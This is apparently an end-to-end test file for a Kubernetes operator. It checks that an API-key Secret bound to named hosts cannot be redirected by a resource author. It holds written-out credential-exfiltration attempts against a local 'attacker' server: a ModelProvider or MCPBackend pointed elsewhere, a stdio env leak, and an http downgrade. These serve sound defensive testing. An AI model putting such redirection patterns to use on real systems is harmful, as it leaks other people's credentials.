/**
 * Consent per use (ADR 0016, issue 10 residual c): the consent label lets every resource author
 * of the namespace use a Secret; its owner can bind it to the hosts its keys are for with the
 * annotation `airlock.dev/credential-hosts`. A resource author who may write ModelProviders and
 * MCPBackends but not read Secrets (a Role of their own, through impersonation) then cannot send
 * the key anywhere else: not with a new provider or backend, not by editing the provider that
 * uses it (UPDATE), not through a stdio process. Label-only Secrets keep working unless the
 * operator runs with --require-credential-hosts.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startMock, type MockProvider } from '../../mocks/index.js';
import { asAuthor as authorOf, conditionOf, credentialValues, operatorForNamespace } from './fixtures.js';
import { kubectl } from './kubectl.js';
import { resourceAuthorYaml, type TestOperator } from './operator-harness.js';

const KEY = 'sk-bound-to-its-host-7a6b5c4d3e2f1a0b';

let ns: string;
let strictNs: string;
const operators: TestOperator[] = [];
let mock: MockProvider;
let attacker: Server;
let attackerUrl: string;
const stolen: IncomingHttpHeaders[] = [];

/** kubectl as the resource author of `namespace`: may write Airlock resources, may not read Secrets. */
const asAuthor = (namespace: string, args: string[], input?: string) => authorOf(namespace).ok(args, input);
const condition = (namespace: string, kind: string, name: string, type: string) => conditionOf(namespace, kind, name, type, authorOf(namespace));
const provider = (name: string, baseURL: string, secret: string) => `apiVersion: airlock.dev/v1alpha1
kind: ModelProvider
metadata: { name: ${name} }
spec:
  type: openai-compatible
  baseURL: ${baseURL}
  apiKeys: [{ secretName: ${secret}, key: key }]
  models: [{ name: gpt-test }]
  probe: { enabled: true, intervalSeconds: 30 }
`;
const secret = (name: string, hosts?: string) => `apiVersion: v1
kind: Secret
metadata:
  name: ${name}
  labels: { airlock.dev/credential: "true" }
${hosts === undefined ? '' : `  annotations: { airlock.dev/credential-hosts: "${hosts}" }\n`}stringData: { key: ${KEY} }
`;
const probedWithKey = () => mock.received.filter((r) => r.headers.authorization === `Bearer ${KEY}`).length;

beforeAll(async () => {
  mock = await startMock('openai', { keys: [KEY] });
  attacker = createServer((req, res) => {
    stolen.push(req.headers);
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"data":[]}');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const mockHost = new URL(mock.url).host;
  for (const [prefix, requireCredentialHosts] of [['per-use', false], ['per-use-strict', true]] as const) {
    const started = await operatorForNamespace(prefix, { requireCredentialHosts });
    operators.push(started.test);
    await kubectl().ok(['apply', '-n', started.ns, '-f', '-'], `${resourceAuthorYaml(started.ns)}---\n${secret('bound-key', `api.example.com, ${mockHost}`)}---\n${secret('label-only')}`);
    if (requireCredentialHosts) strictNs = started.ns;
    else ns = started.ns;
  }
}, 120_000);

afterAll(async () => {
  for (const { operator } of operators) await operator.stop();
  await mock?.close();
  await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
});

describe('a Secret bound to its hosts', () => {
  it('the author cannot read it, but may use it for a provider on one of its hosts', async () => {
    const read = await kubectl().run(['get', 'secret', 'bound-key', '-n', ns, '-o', 'json', `--as=system:serviceaccount:${ns}:author`]);
    expect(read.stderr).toContain('forbidden');
    await asAuthor(ns, ['apply', '-f', '-'], `${provider('legit', mock.url, 'bound-key')}---
apiVersion: airlock.dev/v1alpha1
kind: AgentSandbox
metadata: { name: agent }
spec: { providers: [legit] }
`);
    await expect.poll(() => condition(ns, 'mp', 'legit', 'Ready'), { timeout: 15_000 }).toMatchObject({ status: 'True' });
    expect(probedWithKey()).toBeGreaterThan(0);
    await expect.poll(() => credentialValues(ns, 'agent'), { timeout: 15_000 }).toContain(KEY);
  });

  it('a new ModelProvider pointing it at another URL: refused, nothing sent, the reason names the host', async () => {
    await asAuthor(ns, ['apply', '-f', '-'], provider('exfil', `${attackerUrl}/v1`, 'bound-key'));
    const port = new URL(attackerUrl).port;
    await expect.poll(() => condition(ns, 'mp', 'exfil', 'SecretsResolved'), { timeout: 15_000 }).toMatchObject({
      status: 'False',
      reason: 'SecretMissing',
      message: `Secret bound-key is not for 127.0.0.1:${port} (its owner names api.example.com, ${new URL(mock.url).host} in airlock.dev/credential-hosts)`,
    });
    expect(await condition(ns, 'mp', 'exfil', 'Reachable')).toMatchObject({ status: 'Unknown' });
    expect(JSON.stringify(stolen)).not.toContain(KEY);
  });

  it('an MCPBackend header to another URL, or a stdio env value: refused, nothing sent', async () => {
    await asAuthor(ns, ['apply', '-f', '-'], `apiVersion: airlock.dev/v1alpha1
kind: MCPBackend
metadata: { name: exfil-http }
spec:
  transport: streamable-http
  url: ${attackerUrl}/mcp
  headers: [{ name: Authorization, secretKeyRef: { name: bound-key, key: key } }]
---
apiVersion: airlock.dev/v1alpha1
kind: MCPBackend
metadata: { name: exfil-stdio }
spec:
  transport: stdio
  stdio: { command: sh, args: ["-c", "cat"], env: [{ name: KEY, secretKeyRef: { name: bound-key, key: key } }] }
`);
    await expect.poll(() => condition(ns, 'mcpb', 'exfil-http', 'Ready'), { timeout: 15_000 }).toMatchObject({ status: 'False', reason: 'SecretMissing', message: expect.stringContaining('Secret bound-key is not for 127.0.0.1') });
    await expect.poll(() => condition(ns, 'mcpb', 'exfil-stdio', 'Ready'), { timeout: 15_000 }).toMatchObject({ status: 'False', message: expect.stringContaining('a stdio MCPBackend has no host') });
    expect(JSON.stringify(stolen)).not.toContain(KEY);
  });

  it('editing the provider that uses it (UPDATE) to another URL: refused, and the sandbox loses the key', async () => {
    await asAuthor(ns, ['patch', 'mp', 'legit', '--type=merge', '-p', JSON.stringify({ spec: { baseURL: `${attackerUrl}/v1` } })]);
    await expect.poll(() => condition(ns, 'mp', 'legit', 'SecretsResolved'), { timeout: 15_000 }).toMatchObject({ status: 'False', message: expect.stringContaining('Secret bound-key is not for 127.0.0.1') });
    await expect.poll(() => credentialValues(ns, 'agent'), { timeout: 15_000 }).not.toContain(KEY);
    expect(await condition(ns, 'asbx', 'agent', 'Ready')).toMatchObject({ status: 'False' });
    expect(JSON.stringify(stolen)).not.toContain(KEY);
  });

  it('editing a provider from https to plain http on the same host: refused, the key never crosses the network in the clear', async () => {
    // The owner names a host without a port: the key is for that host over TLS. Downgrading the
    // scheme keeps the host, so only the scheme tells the cleartext hop apart.
    await kubectl().ok(['apply', '-n', ns, '-f', '-'], secret('tls-only', '127.0.0.1'));
    await asAuthor(ns, ['apply', '-f', '-'], provider('tls', `https://127.0.0.1:${new URL(attackerUrl).port}/v1`, 'tls-only'));
    await expect.poll(() => condition(ns, 'mp', 'tls', 'SecretsResolved'), { timeout: 15_000 }).toMatchObject({ status: 'True' });
    await asAuthor(ns, ['patch', 'mp', 'tls', '--type=merge', '-p', JSON.stringify({ spec: { baseURL: `${attackerUrl}/v1` } })]);
    await expect.poll(() => condition(ns, 'mp', 'tls', 'SecretsResolved'), { timeout: 15_000 }).toMatchObject({
      status: 'False',
      message: `Secret tls-only is for 127.0.0.1 over https only; the ModelProvider would send it in the clear to ${attackerUrl} (its owner may name 127.0.0.1:${new URL(attackerUrl).port} in airlock.dev/credential-hosts to allow that)`,
    });
    expect(JSON.stringify(stolen)).not.toContain(KEY);
  });

  it('a label-only Secret keeps working by default (the documented trade-off)', async () => {
    await asAuthor(ns, ['apply', '-f', '-'], provider('legacy', mock.url, 'label-only'));
    await expect.poll(() => condition(ns, 'mp', 'legacy', 'Ready'), { timeout: 15_000 }).toMatchObject({ status: 'True' });
  });
});

describe('with --require-credential-hosts', () => {
  it('a label-only Secret is not used at all; a bound one is, on its hosts', async () => {
    const before = probedWithKey();
    await asAuthor(strictNs, ['apply', '-f', '-'], `${provider('legacy', mock.url, 'label-only')}---\n${provider('bound', mock.url, 'bound-key')}`);
    await expect.poll(() => condition(strictNs, 'mp', 'legacy', 'SecretsResolved'), { timeout: 15_000 }).toMatchObject({
      status: 'False',
      message: 'Secret label-only has no airlock.dev/credential-hosts annotation; this operator uses a Secret only for the hosts its owner names there',
    });
    await expect.poll(() => condition(strictNs, 'mp', 'bound', 'Ready'), { timeout: 15_000 }).toMatchObject({ status: 'True' });
    // Only the bound provider's probe reached the upstream.
    expect(probedWithKey()).toBe(before + 1);
  });
});
